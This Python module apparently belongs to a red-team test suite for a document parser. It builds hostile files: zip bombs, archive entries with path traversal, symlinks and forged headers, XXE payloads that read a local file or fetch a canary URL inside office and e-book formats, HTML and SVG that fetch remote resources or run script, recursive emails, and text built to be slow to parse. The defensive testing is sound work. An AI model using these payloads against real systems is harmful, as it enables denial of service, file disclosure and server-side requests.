"""Hostile files, made on the spot with the standard library: bombs, loops, entities, names that
climb, text that is slow to cut.
"""

from __future__ import annotations

import base64
import io
import json
import stat
import zipfile
from collections.abc import Callable, Iterator

from ondol.lab.redteam.documents.portable import portable
from ondol.lab.redteam.documents.secret import MEGABYTE, Made, Secret


def files(secret: Secret) -> Iterator[Made]:
    """All of them."""
    for make in (archives, entities, pages, portable, mails, texts):
        yield from make(secret)


def zipped(**entries: bytes) -> bytes:
    """A zip; ``a__txt`` is ``a.txt``, and ``_`` in a folder's place is kept."""
    return packed({name.replace("__", "."): data for name, data in entries.items()})


def packed(
    entries: dict[str, bytes], change: Callable[[zipfile.ZipInfo], None] | None = None
) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            info = zipfile.ZipInfo(name)
            info.compress_type = zipfile.ZIP_DEFLATED
            if change is not None:
                change(info)
            archive.writestr(info, data)
    return out.getvalue()


def archives(secret: Secret) -> Iterator[Made]:
    """Bombs, nests, links, names that climb, archives that lie about themselves."""
    bomb = zipped(zeros__txt=bytes(60 * MEGABYTE))
    yield "bomb.zip", bomb
    nested = bomb
    for _ in range(12):
        nested = zipped(inner__zip=nested, note__md=b"# Note")
    yield "nested.zip", nested
    wide = packed({f"{number}.txt": b"x" for number in range(12_000)})
    yield "crowd.zip", wide
    yield "spread.zip", packed({f"{n}.txt": bytes(3 * MEGABYTE) for n in range(200)})
    climbing = ("../../../climbed.txt", "/climbed.txt", "..\\climbed.txt", "a/../../climbed.txt")
    yield "climbing.zip", packed(dict.fromkeys(climbing, b"The stove burns oak. " * 5))

    def link(info: zipfile.ZipInfo) -> None:
        info.external_attr = (stat.S_IFLNK | 0o777) << 16

    yield "link.zip", packed({"link.txt": secret.path.encode()}, link)
    good = zipped(a__txt=b"The stove burns oak. " * 20)
    # The directory says that there is far more, or far less, than there is.
    at = good.index(b"PK\x01\x02")
    for name, size in (("more", 0xFFFFFFF0), ("less", 1)):
        lying = bytearray(good)
        lying[at + 24 : at + 28] = size.to_bytes(4, "little")
        yield f"lies-{name}.zip", bytes(lying)
    yield "cut.zip", good[: len(good) // 2]
    yield "twice.zip", good + good
    for office, inside in (("docx", "word/document.xml"), ("xlsx", "xl/worksheets/sheet1.xml"),
                           ("pptx", "ppt/slides/slide1.xml"), ("odt", "content.xml"),
                           ("hwpx", "Contents/section0.xml"), ("epub", "a.xhtml")):  # fmt: skip
        text = b"<w>" + b" " * (40 * MEGABYTE) + b"</w>"
        yield f"bomb.{office}", packed({**_around(office), inside: text})
        deep = b"<a>" * 200_000 + b"x" + b"</a>" * 200_000
        yield f"deep.{office}", packed({**_around(office), inside: deep})


def entities(secret: Secret) -> Iterator[Made]:
    """A billion laughs, a file and an address named as an entity or as a style sheet, in every
    format that is XML inside."""
    laughs = "".join(f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(9))
    billion = f'<!DOCTYPE x [<!ENTITY l0 "lol">{laughs}]>', "&l9;"
    quadratic = f'<!DOCTYPE x [<!ENTITY q "{"a" * 100_000}">]>', "&q;" * 5_000
    file = f'<!DOCTYPE x [<!ENTITY f SYSTEM "file://{secret.path}">]>', "&f;"
    address = f'<!DOCTYPE x [<!ENTITY u SYSTEM "{secret.url}/entity">]>', "&u;"
    outer = f'<!DOCTYPE x SYSTEM "{secret.url}/dtd">', "text"
    parameter = (
        f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{secret.url}/p.dtd"> %p;]>',
        "text",
    )
    for name, (head, body) in {
        "laughs": billion,
        "quadratic": quadratic,
        "file": file,
        "address": address,
        "dtd": outer,
        "parameter": parameter,
    }.items():
        for office, inside in _XML.items():
            xml = f'<?xml version="1.0"?>{head}{inside[1].replace("TEXT", body)}'.encode()
            yield f"{name}.{office}", packed({**_around(office), inside[0]: xml})
        yield f"{name}.xml", f'<?xml version="1.0"?>{head}<x>{body}</x>'.encode()
        yield f"{name}.xhtml", f'<?xml version="1.0"?>{head}<html><p>{body}</p></html>'.encode()


_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_XML = {
    "docx": (
        "word/document.xml",
        f"<w:document {_W}><w:body><w:p><w:r><w:t>TEXT</w:t></w:r></w:p></w:body></w:document>",
    ),
    "xlsx": (
        "xl/worksheets/sheet1.xml",
        f'<worksheet {_S}><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>TEXT</t></is></c>'
        "</row></sheetData></worksheet>",
    ),
    "odt": ("content.xml", "<x><p>TEXT</p></x>"),
    "epub": ("a.xhtml", '<html xmlns="http://www.w3.org/1999/xhtml"><p>TEXT</p></html>'),
    "hwpx": ("Contents/section0.xml", "<s><p><run><t>TEXT</t></run></p></s>"),
}


def _around(office: str) -> dict[str, bytes]:
    """The other entries of an office file: enough for its reader to get to the hostile one."""
    types = "application/vnd.openxmlformats-officedocument."
    relation = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
    main = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml", "pptx": "ppt/presentation.xml"}
    if office in main:
        kind = {"docx": "wordprocessingml.document.main", "xlsx": "spreadsheetml.sheet.main",
                "pptx": "presentationml.presentation.main"}[office]  # fmt: skip
        return {
            "[Content_Types].xml": (
                '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                '<Default Extension="xml" ContentType="application/xml"/><Default Extension="rels" '
                'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                f'<Override PartName="/{main[office]}" ContentType="{types}{kind}+xml"/></Types>'
            ).encode(),
            "_rels/.rels": (
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                f'<Relationship Id="r1" Type="{relation}" Target="{main[office]}"/></Relationships>'
            ).encode(),
        }
    if office == "epub":
        return {
            "mimetype": b"application/epub+zip",
            "META-INF/container.xml": b'<container xmlns="urn:oasis:names:tc:opendocument:xmlns:'
            b'container"><rootfiles><rootfile full-path="c.opf"/></rootfiles></container>',
            "c.opf": b'<package xmlns="http://www.idpf.org/2007/opf"><manifest><item id="a" '
            b'href="a.xhtml" media-type="application/xhtml+xml"/></manifest><spine>'
            b'<itemref idref="a"/></spine></package>',
        }
    kinds = {"odt": b"application/vnd.oasis.opendocument.text", "hwpx": b"application/hwp+zip"}
    return {"mimetype": kinds[office]}


def pages(secret: Secret) -> Iterator[Made]:
    """Web pages that nest, repeat, and have things fetched."""
    yield "deep.html", b"<html>" + b"<div>" * 300_000 + b"x"
    yield "tables.html", b"<html>" + b"<table><tr><td>" * 20_000 + b"x"
    yield "attributes.html", b"<html><p " + b'a="1" ' * 300_000 + b">x</p>"
    yield "unclosed.html", b"<html><!--" + b"<" * 2 * MEGABYTE
    fetched = (
        f'<img src="{secret.url}/a.png"><link rel=stylesheet href="{secret.url}/s.css">'
        f'<script src="{secret.url}/x.js"></script><iframe src="file://{secret.path}"></iframe>'
        f'<meta http-equiv=refresh content="0;url={secret.url}/r"><object data="{secret.url}/o">'
        f'<base href="{secret.url}/"><embed src="//{secret.url.partition("//")[2]}/e">'
    )
    yield "fetching.html", f"<html>{fetched}<p>text</p>".encode()
    yield (
        "picture.svg",
        (
            f'<svg xmlns="http://www.w3.org/2000/svg"><image href="file://{secret.path}"/>'
            f'<image href="{secret.url}/i"/><script>alert(1)</script></svg>'
        ).encode(),
    )
    cell = {"cell_type": "markdown", "source": f"![x]({secret.url}/n.png)"}
    deep: object = "x"
    for _ in range(500):
        deep = [deep]
    for name, content in {"fetching": cell, "deep": {"cell_type": "code", "outputs": deep}}.items():
        book = {"cells": [cell, content], "nbformat": 4, "nbformat_minor": 5, "metadata": {}}
        yield f"{name}.ipynb", json.dumps(book).encode()
    yield "bottomless.ipynb", b'{"cells": ' + b"[" * 200_000


def mails(secret: Secret) -> Iterator[Made]:
    """Mails in mails, parts without end, heads without end."""
    mail = b"Subject: x\r\nContent-Type: text/plain\r\n\r\nThe stove burns oak.\r\n"
    for _ in range(300):
        mail = b"Subject: x\r\nContent-Type: message/rfc822\r\n\r\n" + mail
    yield "nested.eml", mail
    part = b"--b\r\nContent-Type: text/plain\r\n\r\nx\r\n"
    head = b"Subject: x\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
    yield "parts.eml", head + part * 40_000 + b"--b--"
    yield "head.eml", b"Subject: " + b"=?utf-8?q?a?= " * 100_000 + b"\r\n\r\nx"
    yield "fields.eml", b"X-A: b\r\n" * 200_000 + b"\r\nx"
    bomb = base64.encodebytes(zipped(zeros__txt=bytes(60 * MEGABYTE)))
    attached = b"--b\r\nContent-Type: application/zip\r\nContent-Transfer-Encoding: base64\r\n"
    attached += b"Content-Disposition: attachment; filename=../../a.zip\r\n\r\n" + bomb
    yield "attached.eml", head + attached + b"--b--"
    remote = b"Content-Type: message/external-body; access-type=URL; URL=" + secret.url.encode()
    yield "external.eml", b"Subject: x\r\n" + remote + b"\r\n\r\nContent-Type: text/plain\r\n\r\n"
    yield "many.mbox", b"From a@b Mon Jan 1 00:00:00 2026\nSubject: x\n\ny\n\n" * 50_000


def texts(secret: Secret) -> Iterator[Made]:
    """Plain text that is slow to cut, to split or to decode."""
    yield "spaces.txt", b" " * 3 * MEGABYTE + b"x"
    yield "line.txt", b"a" * 5 * MEGABYTE
    yield "points.txt", b"a.b.c." * 300_000
    yield "brackets.md", b"[" * MEGABYTE
    yield "quotes.md", b"> " * 200_000 + b"x"
    yield "stars.md", b"*_" * 300_000
    yield "fences.md", b"```\n" * 200_000
    yield "headings.md", b"# a\n" * 100_000
    yield "table.md", b"|" * MEGABYTE
    yield "combined.txt", ("e" + "\u0301" * 50_000 + " ").encode() * 10
    yield "turned.txt", ("\u202e" + "txet " * 1000 + "\u2066").encode() * 20
    yield "zero.txt", b"\0" * MEGABYTE
    yield "half.txt", b"\xff\xfe" + b"\x00\xd8" * 300_000
    yield "columns.csv", b"a," * 500_000 + b"\n" + b"1," * 500_000
    yield "quotes.csv", b'"' * MEGABYTE
    yield "deep.json", b"[" * 500_000
    yield "digits.json", b'{"a": ' + b"9" * MEGABYTE + b"}"
    yield "hangul.txt", ("가" * 1_000_000).encode()
    yield "jamo.txt", ("ᄀ" * 400_000).encode()
    yield "numbers.txt", b"1" * 300_000 + b" " + b"1-" * 200_000
    yield "mails.txt", b"a@" * 300_000
    yield "functions.py", b"def f(\n" * 100_000
    yield "indented.py", b"".join(b" " * n + b"if x:\n" for n in range(2000))
